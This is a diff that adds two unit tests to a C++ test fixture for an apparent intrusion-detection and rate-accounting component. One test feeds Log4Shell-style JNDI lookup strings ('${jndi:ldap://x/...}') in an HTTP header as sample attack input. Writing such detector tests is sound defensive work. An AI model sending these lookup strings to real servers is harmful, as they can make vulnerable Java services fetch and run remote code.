@@ -8,6 +8,7 @@
 #include "model/bucket_tag.h"
 #include "model/known_targets.h"
 #include "store/accounting.h"
+#include "store/success.h"
 #include "unit/memory_region.h"
 
 namespace errwatch::store {
@@ -22,6 +23,8 @@ class AccountingWeightTest : public CppUnit::TestFixture {
   CPPUNIT_TEST(WhoGetsWhatHeAsksForIsChargedLess);
   CPPUNIT_TEST(ForeignPagesFillAnAccountOfTheirOwn);
   CPPUNIT_TEST(RealBlockReplacesThatOfForeignPages);
+  CPPUNIT_TEST(PayloadsInHeadersCountEach);
+  CPPUNIT_TEST(EntriesBesideTheResponseTakeNothingAway);
   CPPUNIT_TEST(WhatNoPageCanCauseIsTheClients);
   CPPUNIT_TEST(DetectionsDoNotLengthenTheFirstBlock);
   CPPUNIT_TEST(OneNameIsForgiven);
@@ -169,6 +172,34 @@ class AccountingWeightTest : public CppUnit::TestFixture {
     FromForeignPage();
     for (int i = 4; i < 8; ++i) CPPUNIT_ASSERT(!PostNumber(i, What(Category::kSqlInjection, 5)).blocked);
     CPPUNIT_ASSERT(BlockOf() == real);
+  }
+
+  void PayloadsInHeadersCountEach() {
+    Classification what = What(Category::kCodeInjection, 1);
+    what.found = Bit(Target::kHeaders);
+    for (uint32_t i = 1; i <= 5; ++i) {
+      const std::string header = "X-Api-Version: ${jndi:ldap://x/" + std::to_string(i) + "}";
+      entry_.headers = header;
+      CPPUNIT_ASSERT(Post(what).poured);
+      CPPUNIT_ASSERT(!Post(what).poured);
+    }
+    CPPUNIT_ASSERT_EQUAL(5 * kQuantaPerUnit, LevelOf(Category::kCodeInjection));
+  }
+
+  // More logging must not weaken detection: a response weighs the same, whatever was logged of its request
+  // before.
+  void EntriesBesideTheResponseTakeNothingAway() {
+    const Classification entry = What(Category::kUnauthorizedAccess, 1);
+    const Classification response = What(Category::kPathTraversal, 5);
+    for (uint32_t client = 1; client <= 300; ++client) {
+      uri_ = {'/', static_cast<char>('a' + client % 26), static_cast<char>('a' + client / 26)};
+      entry_.uri = uri_;
+      RequestLedger alone, both;
+      Post(response, client, &alone);
+      Post(entry, 1000 + client, &both);
+      Post(response, 1000 + client, &both);
+      CPPUNIT_ASSERT_EQUAL(Any(client), Any(1000 + client));
+    }
   }
 
   void WhatNoPageCanCauseIsTheClients() {
